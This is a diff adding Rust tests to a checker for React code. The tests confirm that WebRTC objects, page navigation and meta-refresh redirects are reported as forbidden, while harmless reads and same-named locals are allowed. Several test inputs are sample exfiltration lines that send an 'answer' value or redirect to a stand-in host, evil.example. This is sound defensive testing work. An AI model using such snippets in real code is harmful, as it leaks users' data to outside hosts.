@@ -55,6 +55,70 @@ fn every_forbidden_global_is_reported_at_its_position() {
 }
 
 #[test]
+fn webrtc_and_navigation_are_reported_at_their_position() {
+    let cases: &[(&str, &str, u32)] = &[
+        ("const pc = new RTCPeerConnection({ iceServers: [] });", rules::NO_WEBRTC, 18),
+        ("const pc = new webkitRTCPeerConnection({});", rules::NO_WEBRTC, 18),
+        ("const pc = new window.RTCPeerConnection({});", rules::NO_WEBRTC, 18),
+        ("const P = globalThis[\"RTCPeerConnection\"];", rules::NO_WEBRTC, 13),
+        ("const c = RTCDataChannel;", rules::NO_WEBRTC, 13),
+        ("const i = new RTCIceCandidate({ candidate: \"\" });", rules::NO_WEBRTC, 17),
+        ("location.href = \"https://evil.example/?d=\" + answer;", rules::NO_NAVIGATION, 3),
+        ("location = \"https://evil.example\";", rules::NO_NAVIGATION, 3),
+        ("window.location = \"https://evil.example\";", rules::NO_NAVIGATION, 3),
+        ("window.location.href = \"https://evil.example\";", rules::NO_NAVIGATION, 3),
+        ("document.location = \"https://evil.example\";", rules::NO_NAVIGATION, 3),
+        ("document.location.href += \"?d=1\";", rules::NO_NAVIGATION, 3),
+        ("location.search = \"?d=1\";", rules::NO_NAVIGATION, 3),
+        ("location.assign(\"https://evil.example\");", rules::NO_NAVIGATION, 3),
+        ("window.location.replace(\"https://evil.example\");", rules::NO_NAVIGATION, 3),
+        ("location.reload();", rules::NO_NAVIGATION, 3),
+        ("window.open(\"https://evil.example\");", rules::NO_NAVIGATION, 3),
+        ("open(\"https://evil.example\");", rules::NO_NAVIGATION, 3),
+    ];
+    for (stmt, rule, column) in cases {
+        let code = in_component(stmt);
+        let found = issues(&react(&code));
+        assert_eq!(found.len(), 1, "`{stmt}`: expected one issue, got {found:#?}");
+        assert_eq!(
+            (found[0].rule.as_str(), found[0].line, found[0].column),
+            (*rule, 2, *column),
+            "`{stmt}`: {found:#?}"
+        );
+    }
+}
+
+#[test]
+fn a_jsx_meta_http_equiv_is_reported_as_navigation() {
+    let code = "export default function App() {\n  return <div>\n    <meta httpEquiv=\"refresh\" content=\"0;url=https://evil.example\" />\n  </div>;\n}\n";
+    assert_single(&issues(&react(code)), rules::NO_NAVIGATION, 3, 5);
+    let code = "export default () => <meta http-equiv=\"refresh\" content=\"0\" />;\n";
+    assert_single(&issues(&react(code)), rules::NO_NAVIGATION, 1, 22);
+    let code = "export default () => <meta name=\"viewport\" content=\"width=device-width\" />;\n";
+    assert!(issues(&react(code)).is_empty());
+}
+
+#[test]
+fn reading_the_location_and_locals_named_like_navigation_are_fine() {
+    let code = r#"
+export default function App({ location, api }: { location: { href: string }; api: any }) {
+  const here = window.location.href;
+  const q = new URLSearchParams(document.location.search).get("q");
+  location.href = "/local-prop";
+  api.open("x");
+  api.location.assign("/y");
+  const open = (u: string) => u;
+  open("z");
+  const RTCPeerConnection = class {};
+  new RTCPeerConnection();
+  return <p>{here}{q}</p>;
+}
+"#;
+    let found = issues(&react(code));
+    assert!(found.is_empty(), "{found:#?}");
+}
+
+#[test]
 fn locals_props_and_members_with_forbidden_names_are_fine() {
     let code = r#"
 import { useState } from 'react';
